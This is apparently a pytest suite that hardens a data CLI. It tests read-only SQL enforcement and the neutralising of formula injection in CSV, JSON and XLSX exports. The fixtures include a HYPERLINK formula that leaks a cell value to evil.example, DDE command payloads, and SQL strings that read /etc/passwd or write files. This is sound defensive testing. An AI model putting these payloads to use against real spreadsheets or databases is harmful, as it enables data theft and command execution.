"""What an analyst's query and files can do: nothing outside the views, no formulas, one format.

A hostile page title or evidence sentence must not become a live formula in a spreadsheet, and an
analyst's SQL must not write the database, read or write files, reach the network or unlock
itself. Each attack from the hardening review is tried through the real CLI entry point.
"""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import date, datetime
from pathlib import Path

import duckdb
import pytest

from flows.cli import main
from storage.db import connection, open_for_reading, publish_snapshot, snapshot_path
from storage.encoding import csv_cell, json_value, safe_text

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_SENTENCES = ["+1 (555) 010 cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\tTabbed", "\rReturn"]


@pytest.fixture
def hostile_db(db_path: Path) -> Path:
    with connection(db_path) as con:
        con.execute(
            "INSERT INTO deal_store (deal_id, provider, customer, total_value, monthly_fee, start_date, "
            "hardware, currency, first_seen) VALUES ('d_1', '=cmd|'' /C calc''!A0', 'Quillmark AI', "
            "3240000000.0, 90000000.0, DATE '2026-09-01', ['Nvidia GB300'], 'USD', "
            "TIMESTAMP '2026-12-01 10:00:00')"
        )
        con.execute(
            'INSERT INTO conflict_store (conflict_id, deal_id, field, severity, "values", explanation, '
            "status, values_hash) VALUES ('c_1', 'd_1', 'total_value', 'minor', "
            "'[{\"value\": 3240000000.0, \"article_ids\": [\"a1\"]}]', '-one outlet rounds', 'open', 'h')"
        )
        con.execute(
            "INSERT INTO article_store (article_id, url, title, status) VALUES ('a1', 'http://x.test/1', ?, 'ok')",
            [HOSTILE_TITLE],
        )
        for n, sentence in enumerate(HOSTILE_SENTENCES):
            con.execute(
                "INSERT INTO evidence_store (deal_id, field, value, article_id, sentence, confidence) "
                "VALUES ('d_1', 'total_value', '$3.24B', 'a1', ?, ?)",
                [sentence, 0.5 + n / 10],
            )
    publish_snapshot(db_path)
    return db_path


def _sql(db: Path, query: str, fmt: str = "table") -> list[str]:
    return ["sql", query, "--db", str(db), "--format", fmt]


# ----------------------------------------------------------------------------- read-only SQL


def test_attaching_the_live_database_read_write_cannot_delete_rows(hostile_db: Path, capsys) -> None:
    attack = f"ATTACH '{hostile_db}' AS w (READ_WRITE); DELETE FROM w.deal_store"
    assert main(_sql(hostile_db, attack)) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "refused" in err and "Traceback" not in err
    with connection(hostile_db) as con:
        assert con.execute("SELECT count(*) FROM deal_store").fetchone()[0] == 1


def test_attaching_with_the_snapshot_gone_is_refused_too(hostile_db: Path, capsys) -> None:
    snapshot_path(hostile_db).unlink()  # readers fall back to the live file: same lock-down
    attack = f"ATTACH '{hostile_db.with_name('other.duckdb')}' AS w"
    assert main(_sql(hostile_db, attack)) == 2
    assert "refused" in capsys.readouterr().err
    assert not hostile_db.with_name("other.duckdb").exists()


def test_copy_to_a_file_writes_nothing(hostile_db: Path, tmp_path: Path, capsys) -> None:
    target = tmp_path / "stolen.csv"
    assert main(_sql(hostile_db, f"COPY (SELECT * FROM deals) TO '{target}'")) == 2
    assert "refused" in capsys.readouterr().err and not target.exists()


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM read_text('/etc/hostname')",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_blob('/etc/passwd')",
        "SELECT * FROM glob('/etc/*')",
        "INSTALL httpfs",
        "LOAD httpfs",
        "SET enable_external_access = true",
        "RESET lock_configuration",
        "SET memory_limit = '1GB'",
        "PRAGMA enable_profiling",
    ],
)
def test_file_reads_extensions_and_settings_are_refused(hostile_db: Path, query: str, capsys) -> None:
    assert main(_sql(hostile_db, query, "json")) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err.startswith("dealwatch: refused: queries are read-only")
    assert captured.err.count("\n") == 1


def test_the_views_still_answer_under_the_lock_down(hostile_db: Path, capsys) -> None:
    assert (
        main(
            _sql(
                hostile_db,
                "SELECT d.deal_id, count(*) AS n FROM deals d JOIN evidence e USING (deal_id) GROUP BY 1",
                "json",
            )
        )
        == 0
    )
    assert json.loads(capsys.readouterr().out) == [{"deal_id": "d_1", "n": len(HOSTILE_SENTENCES)}]


# ----------------------------------------------------------------------------- one format per type


def test_sql_csv_and_json_and_exports_write_each_type_the_same_way(
    hostile_db: Path, tmp_path: Path, capsys
) -> None:
    query = "SELECT deal_id, hardware, total_value, start_date, first_seen FROM deals"
    assert main(_sql(hostile_db, query, "csv")) == 0
    sql_csv = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))[0]
    assert main(_sql(hostile_db, query, "json")) == 0
    sql_json = json.loads(capsys.readouterr().out)[0]
    for fmt in ("csv", "json"):
        assert main(["export", "--format", fmt, "--out", str(tmp_path / fmt), "--db", str(hostile_db)]) == 0
    capsys.readouterr()
    exp_csv = next(csv.DictReader((tmp_path / "csv" / "deals.csv").open(encoding="utf-8")))
    exp_json = json.loads((tmp_path / "json" / "deals.json").read_text(encoding="utf-8"))[0]
    expected_text = {
        "hardware": '["Nvidia GB300"]',
        "total_value": "3240000000",
        "start_date": "2026-09-01",
        "first_seen": "2026-12-01T10:00:00",
    }
    for column, text in expected_text.items():
        assert sql_csv[column] == exp_csv[column] == text
    for column in ("hardware", "total_value", "start_date", "first_seen"):
        assert sql_json[column] == exp_json[column]
    assert exp_json["hardware"] == ["Nvidia GB300"] and exp_json["total_value"] == 3240000000


def test_json_columns_are_nested_json_in_sql_output_and_exports(
    hostile_db: Path, tmp_path: Path, capsys
) -> None:
    assert main(_sql(hostile_db, 'SELECT "values" FROM conflicts', "json")) == 0
    from_sql = json.loads(capsys.readouterr().out)[0]["values"]
    assert main(["export", "--format", "json", "--out", str(tmp_path), "--db", str(hostile_db)]) == 0
    exported = json.loads((tmp_path / "conflicts.json").read_text(encoding="utf-8"))[0]["values"]
    assert from_sql == exported == [{"value": 3240000000, "article_ids": ["a1"]}]
    capsys.readouterr()
    assert main(_sql(hostile_db, 'SELECT "values" FROM conflicts', "csv")) == 0
    cell = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1][0]
    assert json.loads(cell) == from_sql


# ----------------------------------------------------------------------------- formula injection


def _csv_cells(path_or_text: Path | str) -> list[str]:
    text = path_or_text.read_text(encoding="utf-8") if isinstance(path_or_text, Path) else path_or_text
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_csv_cell_can_start_a_formula(hostile_db: Path, tmp_path: Path, capsys) -> None:
    assert main(["export", "--format", "csv", "--out", str(tmp_path), "--db", str(hostile_db)]) == 0
    capsys.readouterr()
    cells = [c for f in sorted(tmp_path.glob("*.csv")) for c in _csv_cells(f)]
    assert (
        main(_sql(hostile_db, "SELECT title FROM articles UNION ALL SELECT sentence FROM evidence", "csv"))
        == 0
    )
    cells += _csv_cells(capsys.readouterr().out)
    assert "'" + HOSTILE_TITLE in cells and "'-one outlet rounds" in cells
    assert all("'" + s.replace("\r", "\n") in cells for s in HOSTILE_SENTENCES)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_negative_numbers_stay_numbers_in_csv() -> None:
    assert csv_cell(-5) == -5 and csv_cell(-2.5) == -2.5 and csv_cell("-5") == "'-5"


def test_xlsx_holds_no_formula_and_real_types(hostile_db: Path, tmp_path: Path, capsys) -> None:
    from openpyxl import load_workbook

    assert main(["export", "--format", "xlsx", "--out", str(tmp_path), "--db", str(hostile_db)]) == 0
    wb = load_workbook(tmp_path / "dealwatch.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [
        c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))
    ]
    titles = [c.value for c in wb["articles"]["D"]]
    assert titles == ["title", "'" + HOSTILE_TITLE]
    deals = wb["deals"]
    header = [c.value for c in deals[1]]
    row = dict(zip(header, [c.value for c in deals[2]], strict=True))
    assert row["total_value"] == 3240000000 and row["hardware"] == '["Nvidia GB300"]'
    assert isinstance(row["start_date"], datetime) and row["start_date"].date() == date(2026, 9, 1)
    start_cell = deals.cell(row=2, column=header.index("start_date") + 1)
    assert start_cell.is_date and start_cell.number_format == "yyyy-mm-dd"
    assert all(c.font.b for c in deals[1]) and deals.freeze_panes == "A2"
    assert deals.auto_filter.ref == f"A1:{deals.cell(row=1, column=len(header)).column_letter}2"
    assert deals.column_dimensions["B"].width >= len("=cmd|' /C calc'!A0")


def test_encoding_helpers_agree_with_each_other() -> None:
    assert safe_text("=1+1") == "'=1+1" and safe_text("a=1") == "a=1"
    assert json_value(3240000000.0) == 3240000000 and json_value(0.85) == 0.85
    assert csv_cell(float("nan")) == "" and json_value(float("inf")) is None


# ----------------------------------------------------------------------------- files and snapshots


def test_export_into_an_unwritable_place_is_one_clear_line(hostile_db: Path, tmp_path: Path, capsys) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    assert main(["export", "--out", str(blocker / "sub"), "--db", str(hostile_db)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("dealwatch: cannot create") and err.count("\n") == 1
    out = tmp_path / "exp"
    (out / "deals.csv").mkdir(parents=True)  # the file to write is in the way
    assert main(["export", "--out", str(out), "--db", str(hostile_db)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("dealwatch: cannot write") and "deals.csv" in err and "Traceback" not in err


@pytest.mark.parametrize("damage", ["empty", "garbage", "truncated"])
def test_a_broken_snapshot_falls_back_to_the_live_database(hostile_db: Path, damage: str, capsys) -> None:
    snap = snapshot_path(hostile_db)
    data = snap.read_bytes()
    snap.write_bytes({"empty": b"", "garbage": os.urandom(8192), "truncated": data[: len(data) // 3]}[damage])
    assert main(_sql(hostile_db, "SELECT deal_id FROM deals", "json")) == 0
    captured = capsys.readouterr()
    assert json.loads(captured.out) == [{"deal_id": "d_1"}]
    assert captured.err.count("\n") == 1 and "snapshot" in captured.err and "Traceback" not in captured.err


def test_snapshot_copies_left_by_killed_runs_are_removed(hostile_db: Path) -> None:
    snap = snapshot_path(hostile_db)
    dead = snap.with_name(snap.name + ".tmp999999999")  # no such process
    dead.write_bytes(b"half a copy")
    publish_snapshot(hostile_db)
    leftovers = sorted(p.name for p in hostile_db.parent.iterdir() if ".tmp" in p.name)
    assert leftovers == []
    con = open_for_reading(hostile_db)
    try:
        assert con.execute("SELECT count(*) FROM deals").fetchone()[0] == 1
    finally:
        con.close()


def test_a_failed_snapshot_copy_leaves_no_temporary_file(hostile_db: Path, monkeypatch) -> None:
    import shutil

    def broken_copy(src, dst):
        Path(dst).write_bytes(b"partial")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(shutil, "copyfile", broken_copy)
    with pytest.raises(OSError):
        publish_snapshot(hostile_db)
    assert not [p for p in hostile_db.parent.iterdir() if ".tmp" in p.name]
    assert duckdb.connect(str(snapshot_path(hostile_db)), read_only=True).execute("SELECT 1").fetchone() == (
        1,
    )


@pytest.mark.integration
def test_the_installed_command_refuses_with_one_line_and_exit_2(
    hostile_db: Path, tmp_path: Path, cli_env
) -> None:
    import subprocess
    import sys

    target = tmp_path / "out.csv"
    proc = subprocess.run(
        [sys.executable, "-m", "flows.cli", "sql", f"COPY deal_store TO '{target}'", "--db", str(hostile_db)],
        capture_output=True,
        text=True,
        timeout=120,
        env=cli_env,
    )
    assert proc.returncode == 2 and proc.stdout == "" and not target.exists()
    assert proc.stderr.startswith("dealwatch: refused:") and proc.stderr.count("\n") == 1


def test_xlsx_cells_drop_control_characters_a_workbook_cannot_hold(db_path: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from storage.export import export_views

    with connection(db_path) as con:
        con.execute(
            "INSERT INTO article_store (article_id, url, title, status) VALUES ('a1', 'http://x.test/1', ?, 'ok')",
            ["Vertical\x0btab and bell\x07 in a title"],
        )
    con = open_for_reading(db_path)
    try:
        [path] = export_views(con, tmp_path, "xlsx", views=("articles",))
    finally:
        con.close()
    assert load_workbook(path)["articles"]["D2"].value == "Vertical tab and bell  in a title"
